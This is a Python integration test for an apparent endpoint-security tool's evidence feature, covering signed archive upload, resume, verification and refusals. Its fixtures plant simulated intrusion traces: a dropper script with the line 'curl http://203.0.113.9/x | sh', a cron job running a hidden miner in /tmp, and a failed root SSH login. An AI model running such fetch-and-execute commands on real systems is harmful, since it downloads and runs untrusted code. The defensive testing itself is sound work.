"""Evidence end to end (POLICY.md I1; docs/incidents.md, "Evidence"): a real server process and
a real agent process reading a host tree made on disk and the live process table. The console's
"evidence" command reaches the agent; its signed archive goes up in chunks; the agent is killed
with the upload half done and, started again, resumes where the server stands, so every byte
is sent once and the archive is stored once. The download verifies offline (pinned to the
agent's enrolled key), a flipped byte does not, and a second download is the same bytes.
Refusals of the upload routes are checked with a signing identity of the test's own."""

from __future__ import annotations

import hashlib
import io
import json
import math
import os
import stat
import tarfile
from pathlib import Path
from typing import Any

import sqlalchemy

from tests.harness import (
    AgentUnderTest,
    ServerUnderTest,
    enroll_simulated,
    option_value,
    run_cli,
    wait_for,
)
from tests.integration.test_spine import _small_host_tree
from xunjian.core.contract import (
    EVIDENCE_ARCHIVE_MAX_BYTES,
    EVIDENCE_CHUNK_MAX_BYTES,
    PATH_EVIDENCE,
    evidence_chunk_path,
)
from xunjian.core.evidence import Part, build_archive

CHUNK = 4096
AUTH_LINE = (
    "Dec  7 07:00:01 pc-101 sshd[4242]: Failed password for root from 203.0.113.9 port 50022"
)
CRON_COMMAND = "/tmp/.x/miner --quiet"
DROPPED = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"


def _host_tree(root: Path) -> Path:
    """A host's files: accounts copied from this machine, an auth log, a crontab naming a
    program in /tmp, and a /tmp full of fresh files (so the archive takes many chunks)."""
    tree = _small_host_tree(root)
    (tree / "var/log").mkdir(parents=True)
    (tree / "var/log/auth.log").write_text(
        "Dec  7 06:59:59 pc-101 sshd[4241]: Accepted publickey for it from 10.0.0.5\n"
        + AUTH_LINE
        + "\n"
    )
    (tree / "etc/crontab").write_text(f"*/5 * * * * root {CRON_COMMAND}\n")
    tmp = tree / "tmp"
    (tmp / ".x").mkdir(parents=True)
    (tmp / ".x/dropper.sh").write_bytes(DROPPED)
    for index in range(400):
        (tmp / f"cache-{index:04}.bin").write_bytes(os.urandom(32))
    return tree


def _evidence(server: ServerUnderTest, token: str, host: str) -> list[dict[str, Any]]:
    answer = server.api(token, "GET", f"/api/v1/evidence?host={host}")
    assert answer.status == 200, answer.body
    return list(answer.json()["evidence"])


def _parts(archive: bytes) -> dict[str, bytes]:
    with tarfile.open(fileobj=io.BytesIO(archive)) as tar:
        return {
            member.name: tar.extractfile(member).read()  # type: ignore[union-attr]
            for member in tar
        }


def _verify(path: Path, *extra: str) -> tuple[int, str]:
    done = run_cli("evidence", "verify", str(path), *extra, check=False)
    return done.returncode, done.stdout + done.stderr


def test_evidence_snapshot_uploads_resumes_and_verifies(
    server: ServerUnderTest, database: sqlalchemy.Engine, tmp_path: Path
) -> None:
    token = server.api_token()
    agent = AgentUnderTest(tmp_path / "agent")
    agent.enroll(server.create_token())
    # Small chunks, and at most two of them per flush with flushes an hour apart: the upload
    # stops part way by itself, and the agent is killed there.
    agent.tune(
        scan_root=str(_host_tree(tmp_path / "tree")),
        scan_interval_seconds=3600,
        flush_interval_seconds=3600,
        evidence_chunk_bytes=CHUNK,
        evidence_upload_bytes_per_flush=2 * CHUNK,
    )
    host = agent.agent_id
    # An incident open for the host: the stored archive goes on its timeline (docs/incidents.md).
    opened = server.api(token, "POST", "/api/v1/incidents", {"host_id": host, "title": "web shell"})
    assert opened.status == 201, opened.body
    incident = opened.json()["id"]
    queued = server.api(token, "POST", f"/api/v1/hosts/{host}/commands", {"type": "evidence"})
    assert queued.status == 201, queued.body
    command_id = queued.json()["id"]
    agent.start()
    try:
        [started] = wait_for(
            "a part of the archive on the server",
            lambda: [e for e in _evidence(server, token, host) if e["received"] > 0],
        )
    finally:
        agent.kill()
    [partial] = _evidence(server, token, host)
    assert not partial["complete"] and 0 < partial["received"] < partial["size"], partial
    assert partial["command_id"] == command_id
    local = list((agent.state / "evidence").glob("*.tar"))
    assert [p.stem for p in local] == [started["id"]]
    kept = local[0].read_bytes()
    assert hashlib.sha256(kept).hexdigest() == partial["sha256"]

    # Started again with no budget: it goes on from where the server stands.
    agent.tune(flush_interval_seconds=0.5, evidence_upload_bytes_per_flush=None)
    agent.start()
    try:
        [done] = wait_for(
            "the whole archive",
            lambda: [e for e in _evidence(server, token, host) if e["complete"]],
            timeout=120,
        )
        wait_for("the agent to drop its copy", lambda: not local[0].exists())
    finally:
        agent.stop()
    assert done["id"] == started["id"] and done["received"] == done["size"] == len(kept)
    with database.connect() as connection:
        rows = connection.execute(
            sqlalchemy.text("SELECT id, chunks FROM evidence_snapshots WHERE agent_id = :a"),
            {"a": host},
        ).all()
    # Stored once, and every byte sent once: a resumed upload does not start over.
    assert [(row[0], row[1]) for row in rows] == [(done["id"], math.ceil(len(kept) / CHUNK))]

    # The incident lists the archive's hash, once.
    record = server.api(token, "GET", f"/api/v1/incidents/{incident}").json()
    assert record["evidence_sha256"] == [done["sha256"]], record

    # Downloads: the archive the agent made, twice the same, verified offline.
    first = server.api(token, "GET", f"/api/v1/evidence/{done['id']}/archive")
    second = server.api(token, "GET", f"/api/v1/evidence/{done['id']}/archive")
    assert first.status == second.status == 200
    assert first.body == second.body == kept
    assert hashlib.sha256(first.body).hexdigest() == done["sha256"]
    manifest = server.api(token, "GET", f"/api/v1/evidence/{done['id']}/manifest").json()
    key_file = tmp_path / "agent.key"
    key_file.write_text(manifest["agent_public_key"])
    archive = tmp_path / "evidence.tar"
    archive.write_bytes(first.body)
    status, said = _verify(archive, "--public-key", str(key_file))
    assert status == 0, said
    assert f"signed by agent key {done['key_id']}" in said
    flipped = bytearray(first.body)
    flipped[len(flipped) // 2] ^= 0x01
    (tmp_path / "flipped.tar").write_bytes(bytes(flipped))
    status, said = _verify(tmp_path / "flipped.tar")
    assert status == 1 and "NOT VALID" in said, said

    # What the scene holds: this test's own process with its executable's hash, the tree's
    # auth log, its cron job and the file dropped in /tmp.
    parts = _parts(first.body)
    assert manifest["manifest"]["command_id"] == command_id
    assert [p["name"] for p in manifest["manifest"]["parts"]] == list(parts)[1:-1]
    processes = json.loads(parts["processes.json"])
    [me] = [p for p in processes if p["pid"] == os.getpid()]
    with open("/proc/self/exe", "rb") as handle:
        assert me["exe_sha256"] == hashlib.sha256(handle.read()).hexdigest()
    assert me["command"] and me["started_at"]
    assert AUTH_LINE in parts["auth-log.txt"].decode()
    jobs = json.loads(parts["scheduled-jobs.json"])
    assert any(job["command"] == CRON_COMMAND for job in jobs)
    recent = json.loads(parts["recent-files.json"])
    [dropped] = [f for f in recent["files"] if f["path"] == "/tmp/.x/dropper.sh"]
    assert dropped["sha256"] == hashlib.sha256(DROPPED).hexdigest()
    connections = json.loads(parts["connections.json"])
    assert any(c["listening"] and c["local_port"] == server.port for c in connections)

    # Kept apart and write-once; every access in the operation log.
    stored = server.data / "evidence" / host / f"{done['id']}.tar"
    assert stat.S_IMODE(stored.stat().st_mode) == 0o400
    assert stat.S_IMODE(stored.parent.stat().st_mode) == 0o700
    with database.connect() as connection:
        actions = [
            row[0]
            for row in connection.execute(
                sqlalchemy.text("SELECT action FROM oplog_entries WHERE target = :t ORDER BY seq"),
                {"t": f"evidence:{done['id']}"},
            )
        ]
    assert actions == [
        "evidence.stored",
        "evidence.download",
        "evidence.download",
        "evidence.manifest",
    ]
    assert "Traceback" not in server.log(), server.log()[-3000:]
    assert "Traceback" not in agent.log(), agent.log()[-3000:]


def _put(
    server: ServerUnderTest, agent: Any, snapshot: str, offset: int, chunk: bytes, kind: str = ""
) -> Any:
    path = evidence_chunk_path(snapshot, offset)
    headers = agent.signed("PUT", path, chunk)
    headers["Content-Type"] = kind or "application/octet-stream"
    return server.request("PUT", path, chunk, headers)


def _start(server: ServerUnderTest, agent: Any, body: dict[str, Any]) -> Any:
    data = json.dumps(body).encode()
    return server.request("POST", PATH_EVIDENCE, data, agent.signed("POST", PATH_EVIDENCE, data))


def test_evidence_uploads_are_bounded_and_refused_clearly(
    server: ServerUnderTest, tmp_path: Path
) -> None:
    words = server.create_token()
    agent = enroll_simulated(server, option_value(words, "--token"), "pc-evidence")
    fields = {
        "snapshot_id": "6f1c2a34-0000-4000-8000-000000000001",
        "agent_id": agent.agent_id,
        "hostname": "pc-evidence",
        "taken_at": "2026-12-07T07:00:00Z",
        "reason": "test",
        "command_id": None,
    }
    archive, _ = build_archive(fields, [Part("host.json", b"{}")], agent.key, 1_765_090_800)
    digest = hashlib.sha256(archive).hexdigest()
    snapshot = fields["snapshot_id"]
    start = {"id": snapshot, "size": len(archive), "sha256": digest}

    too_big = _start(server, agent, {**start, "size": EVIDENCE_ARCHIVE_MAX_BYTES + 1})
    assert too_big.status == 400 and "size" in too_big.json()["error"]
    opened = _start(server, agent, start)
    assert opened.status == 200, opened.body
    assert opened.json() == {
        "id": snapshot,
        "received": 0,
        "complete": False,
        "chunk_bytes": EVIDENCE_CHUNK_MAX_BYTES,
    }
    assert _start(server, agent, {**start, "sha256": "0" * 64}).status == 409
    assert _put(server, agent, snapshot, 0, archive[:10], "application/json").status == 415
    oversized = _put(server, agent, snapshot, 0, b"x" * (EVIDENCE_CHUNK_MAX_BYTES + 1))
    assert oversized.status == 413
    assert _put(server, agent, snapshot, 0, archive + b"x").status == 400
    assert _put(server, agent, snapshot, 0, archive[:1000]).status == 200
    wrong = _put(server, agent, snapshot, 5, archive[5:10])
    assert wrong.status == 409 and wrong.json()["received"] == 1000
    unknown = _put(server, agent, "6f1c2a34-0000-4000-8000-0000000000ff", 0, b"x")
    assert unknown.status == 404
    finished = _put(server, agent, snapshot, 1000, archive[1000:])
    assert finished.status == 200 and finished.json()["complete"] is True
    # Write-once: nothing more is taken, and a start again says it is complete.
    assert _put(server, agent, snapshot, 0, archive[:10]).status == 409
    assert _start(server, agent, start).json()["complete"] is True

    # An archive signed by another key than the agent's enrolled one is not kept.
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    forged_fields = {**fields, "snapshot_id": "6f1c2a34-0000-4000-8000-000000000002"}
    forged, _ = build_archive(
        forged_fields, [Part("host.json", b"{}")], Ed25519PrivateKey.generate(), 1_765_090_800
    )
    forged_id = forged_fields["snapshot_id"]
    assert (
        _start(
            server,
            agent,
            {"id": forged_id, "size": len(forged), "sha256": hashlib.sha256(forged).hexdigest()},
        ).status
        == 200
    )
    refused = _put(server, agent, forged_id, 0, forged)
    assert refused.status == 422 and "key" in refused.json()["error"]

    # Reading: an auditor may, and each read is logged; unknown ids are 404.
    run_cli("server", "user", "add", "audrey", "--role", "auditor", "--data", str(server.data))
    token = server.api_token("audrey")
    listed = server.api(token, "GET", f"/api/v1/evidence?host={agent.agent_id}").json()
    assert [item["id"] for item in listed["evidence"]] == [snapshot]
    assert server.api(token, "GET", f"/api/v1/evidence/{forged_id}").status == 404
    assert server.api(token, "GET", f"/api/v1/evidence/{snapshot}/archive").body == archive
